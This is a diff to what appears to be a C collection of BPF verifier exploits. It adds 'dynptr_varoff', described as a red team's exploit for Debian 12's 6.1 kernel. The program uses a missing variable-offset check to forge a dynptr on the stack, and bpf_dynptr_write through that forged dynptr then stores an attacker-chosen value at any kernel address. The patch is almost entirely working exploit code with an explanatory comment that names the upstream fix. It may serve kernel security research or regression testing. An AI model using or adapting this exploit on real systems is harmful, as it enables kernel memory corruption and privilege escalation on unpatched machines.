@@ -19,6 +19,9 @@
  *   slice_frame  a read-only slice of a subprogram's stack buffer,
  *             returned, read after the frame is gone (bpf-dynptr-slice
  *             frame)
+ *   dynptr_varoff  a socket filter's dynptr made at a stack offset the
+ *             verifier places by its constant part alone (6.1): a store
+ *             to any kernel address (bpf-dynptr-varoff)
  * Kernel types are declared with what the programs touch, relocated
  * against the kernel's BTF (CO-RE); no BPF_CORE_READ(), which would be a
  * bpf_probe_read_kernel() and ask its reason.
@@ -299,4 +302,37 @@ int slice_frame(struct xdp_md *xdp)
 	for (int i = 0; i < FRAME_WORDS; i++)
 		frame_words[i] = p[i];
 	return XDP_PASS;
+}
+
+/*
+ * dynptr_varoff (a red team's, on Debian 12's kernel with the BPF
+ * backend): bpf_dynptr_from_mem() is handed a stack pointer whose
+ * variable part is dv_var & 16, 16 at run time, anything in [0, 16] to
+ * the verifier. A verifier that places a dynptr argument by the
+ * pointer's constant offset alone (6.1; 6.2's "bpf: Fix missing var_off
+ * check for ARG_PTR_TO_DYNPTR" refuses it) marks the slot at the constant
+ * offset a dynptr, where the program wrote one of its own: data at
+ * poke_addr, dv_word its size and type (6.1's struct bpf_dynptr_kern).
+ * The helper makes the real one 16 bytes on, and bpf_dynptr_write()
+ * through the marked slot stores poke_val at poke_addr. Root only: the
+ * verifier takes no variable stack offset from a program without
+ * CAP_PERFMON.
+ */
+__u64 dv_var;
+__u64 dv_word;
+__u64 dv_mem[2];
+long dv_ret;
+
+SEC("socket")
+int dynptr_varoff(struct __sk_buff *skb)
+{
+	struct bpf_dynptr slots[2];
+	__u64 *own = (__u64 *)slots;
+	__u64 var = dv_var & 16;
+
+	own[0] = poke_addr;
+	own[1] = dv_word;
+	bpf_dynptr_from_mem(dv_mem, sizeof(dv_mem), 0, (void *)((char *)slots + var));
+	dv_ret = bpf_dynptr_write(&slots[0], 0, &poke_val, sizeof(poke_val), 0);
+	return 1;
 }
